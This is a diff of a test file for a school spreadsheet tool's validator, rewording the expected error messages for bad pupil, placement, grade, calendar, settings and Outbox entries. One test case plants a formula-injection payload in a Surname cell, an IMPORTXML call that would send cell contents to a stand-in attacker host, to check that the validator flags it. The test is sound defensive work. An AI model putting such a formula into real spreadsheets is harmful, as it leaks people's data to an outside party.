@@ -50,7 +50,7 @@ const CASES: [what: string, wrong: (w: MemoryWorkspace) => void, problem: RegExp
   [
     "an unknown grade",
     (w) => at(w, "Weekly grades", ["Pupil id", "U004"], "Engagement", "Rd"),
-    /^Weekly grades \d+ Engagement: "Rd" cannot be read: it is not a grade \(for an absence: U or I\?\)/,
+    /^Weekly grades \d+ Engagement: "Rd" cannot be read: it is not a grade \(for an absence, use U or I\)/,
   ],
   [
     "a date typed as text",
@@ -65,7 +65,7 @@ const CASES: [what: string, wrong: (w: MemoryWorkspace) => void, problem: RegExp
   [
     "a pupil without placement",
     (w) => paste(person(w, LEAD), "Pupils", ["First name", "Surname"], [["Ophelia", "Newcombe"]]),
-    /^Pupils \d+ Id: U021 has no placement/,
+    /^Pupils \d+ Id: .+ \(U021\) has no placement/,
   ],
   [
     "overlapping placements with one provider",
@@ -76,7 +76,7 @@ const CASES: [what: string, wrong: (w: MemoryWorkspace) => void, problem: RegExp
         ["Pupil", "Provider", "First day"],
         [["U004", "P01", "2026-10-01"]],
       ),
-    /^Placements \d+ First day: L\d+ overlaps another placement of U004 with P01/,
+    /^Placements \d+ First day: Placement L\d+ overlaps another placement of U004 with P01/,
   ],
   [
     "a placement that ends before it starts",
@@ -87,7 +87,7 @@ const CASES: [what: string, wrong: (w: MemoryWorkspace) => void, problem: RegExp
         ["Pupil", "Provider", "First day", "Last day"],
         [["U004", "P02", "2026-11-20", "2026-11-02"]],
       ),
-    /^Placements \d+ Last day: L\d+ ends before it starts/,
+    /^Placements \d+ Last day: Placement L\d+ ends before it starts/,
   ],
   [
     "a provider without contact",
@@ -95,19 +95,19 @@ const CASES: [what: string, wrong: (w: MemoryWorkspace) => void, problem: RegExp
       for (const c of rowsOf(w, contacts).filter((r) => r.provider === "P01"))
         type(w, contacts, (r) => r["id"] === c.id, { email: "" });
     },
-    /^Providers \d+ Name: P01 has pupils here but no (confirmed )?contact/,
+    /^Providers \d+ Name: .+ has pupils here but no (confirmed )?contact/,
     /^P01-/,
   ],
   [
     "two addresses in a cell",
     (w) => at(w, "Contacts", ["Id", "C001"], "Email", "a@fernhollow-academy.example, b@other.example"),
-    /^Contacts \d+ Email: "a@.*" cannot be read: it is not one email address/,
+    /^Contacts \d+ Email: "a@.*" cannot be read: it is not a single email address/,
     /-C001$/,
   ],
   [
     "a formula in a name",
     (w) => at(w, "Pupils", ["Id", "U015"], "Surname", '=IMPORTXML("https://attacker.example/?d="&A1,"//a")'),
-    /^Pupils \d+ Surname: (It holds a formula|"#ERROR!" cannot be read)/,
+    /^Pupils \d+ Surname: (This cell contains a formula|"#ERROR!" cannot be read)/,
   ],
   [
     "a phone number pasted as a number",
@@ -116,22 +116,22 @@ const CASES: [what: string, wrong: (w: MemoryWorkspace) => void, problem: RegExp
       const r = rowsOf(w, settings).findIndex((x) => x.setting === "DSL phone") + 2;
       s.getRange(r, 2).setNumberFormat("0").setValue(1632960123);
     },
-    /^Settings \d+ Value: DSL phone is "1632960123": it is no phone number with its leading 0/,
+    /^Settings \d+ Value: DSL phone is "1632960123": start the number with 0 or \+/,
   ],
   [
     "a week outside the calendar",
     (w) => at(w, "Weekly grades", ["Pupil id", "U004"], "Week", "2026-10-26"),
-    /^Weekly grades \d+ Week: 2026-10-26 is not a school week of the Calendar/,
+    /^Weekly grades \d+ Week: 26 October 2026 is not a school week in the Calendar/,
   ],
   [
     "a week that is no Monday",
     (w) => at(w, "Weekly grades", ["Pupil id", "U004"], "Week", "2026-11-18"),
-    /^Weekly grades \d+ Week: 2026-11-18 is not a Monday/,
+    /^Weekly grades \d+ Week: 18 November 2026 is not a Monday/,
   ],
   [
     "Settings with 25:99",
     (w) => at(w, "Settings", ["Setting", "Closing time"], "Value", "25:99"),
-    /^Settings \d+ Value: Closing time is "25:99": it is not a time such as 16:30. Correct it; until then 16:30 is used/,
+    /^Settings \d+ Value: Closing time is "25:99": enter a time such as 16:30. Correct it. Until then 16:30 is used/,
   ],
   [
     "the same UPN twice",
@@ -141,7 +141,7 @@ const CASES: [what: string, wrong: (w: MemoryWorkspace) => void, problem: RegExp
   [
     "a UPN whose letter is wrong",
     (w) => type(w, pupils, (p) => p["id"] === "U002", { upn: "A801200005001" }),
-    /^Pupils \d+ UPN: It is no UPN/,
+    /^Pupils \d+ UPN: Not a valid UPN/,
   ],
   [
     "the same name and birthday",
@@ -161,12 +161,12 @@ const CASES: [what: string, wrong: (w: MemoryWorkspace) => void, problem: RegExp
       const s = book(w).getSheetByName("Weekly grades");
       s.getRange(22, 1, 1, 4).setValues(s.getRange(2, 1, 1, 4).getValues());
     },
-    /^Weekly grades 2 Week: Rows 2 and 22 are both for 2026-11-16, U\d+; neither is used/,
+    /^Weekly grades 2 Week: Rows 2 and 22 are both for 16 November 2026, U\d+, so neither is used/,
   ],
   [
     "an id twice",
     (w) => type(w, pupils, (p) => p["id"] === "U015", { id: "U016" }),
-    /^Pupils \d+ Id: Rows 16 and 17 are both for U016; neither is used/,
+    /^Pupils \d+ Id: Rows 16 and 17 are both for U016, so neither is used/,
   ],
   [
     "a name beside another's id",
@@ -176,7 +176,7 @@ const CASES: [what: string, wrong: (w: MemoryWorkspace) => void, problem: RegExp
   [
     "a key worker nobody knows",
     (w) => type(w, pupils, (p) => p["id"] === "U015", { keyWorker: "Mr Nobody" }),
-    /^Pupils 16 Key worker: "Mr Nobody" is no member of staff's id/,
+    /^Pupils 16 Key worker: "Mr Nobody" is not the id of a member of staff/,
   ],
   [
     "a tab copied",
@@ -191,7 +191,7 @@ const CASES: [what: string, wrong: (w: MemoryWorkspace) => void, problem: RegExp
   [
     "more sessions attended than offered",
     (w) => at(w, "Weekly grades", ["Pupil id", "U004"], "Sessions attended", "99"),
-    /^Weekly grades \d+ Sessions attended: 99 attended of \d+ offered/,
+    /^Weekly grades \d+ Sessions attended: 99 attended, but only \d+ offered/,
   ],
 ];
 
@@ -238,17 +238,17 @@ const STOPS: [what: string, wrong: (w: MemoryWorkspace) => void, problem: RegExp
       const s = book(w).getSheetByName("Calendar");
       s.getRange(2, 1, s.getLastRow(), 6).clearContent();
     },
-    /^Calendar - : There is no half-term in the calendar/,
+    /^Calendar - : The Calendar has no half-term/,
   ],
   [
     "half-terms that overlap",
     (w) => at(w, "Calendar", ["Name", "Autumn 2"], "First day", "2026-10-19"),
-    /^Calendar \d+ First day: Autumn 2 starts on 2026-10-19, before Autumn 1 has ended/,
+    /^Calendar \d+ First day: Autumn 2 starts on 19 October 2026, before Autumn 1 has ended/,
   ],
   [
     "rows deleted from the Outbox",
     (w) => book(w).getSheetByName("Outbox").deleteRow(7),
-    /^Outbox - No: Its numbers do not run from 1 to \d+ without a gap.*Nothing is sent/,
+    /^Outbox - No: The numbers in the Outbox do not run from 1 to \d+ without a gap.*Nothing will be sent/,
   ],
   [
     "the end of the Outbox deleted",
@@ -256,7 +256,7 @@ const STOPS: [what: string, wrong: (w: MemoryWorkspace) => void, problem: RegExp
       const s = book(w).getSheetByName("Outbox");
       s.deleteRows(s.getLastRow() - 3, 4);
     },
-    /^Outbox - No: It has \d+ rows; \d+ were counted before/,
+    /^Outbox - No: The Outbox has \d+ rows, but \d+ were counted before/,
   ],
   [
     "letters of the Outbox changed",
@@ -269,12 +269,12 @@ const STOPS: [what: string, wrong: (w: MemoryWorkspace) => void, problem: RegExp
   [
     "a setting that decides who gets what",
     (w) => at(w, "Settings", ["Setting", "Hold weekly updates for approval"], "Value", "perhaps"),
-    /^Settings \d+ Value: Hold weekly updates for approval is "perhaps".*Nothing is sent/,
+    /^Settings \d+ Value: Hold weekly updates for approval is "perhaps".*Nothing will be sent/,
   ],
   [
     "no address for answers",
     (w) => at(w, "Settings", ["Setting", "Reply-to address"], "Value", ""),
-    /^Settings - Value: Reply-to address is empty/,
+    /^Settings - Value: The Reply-to address is empty/,
   ],
 ];
 
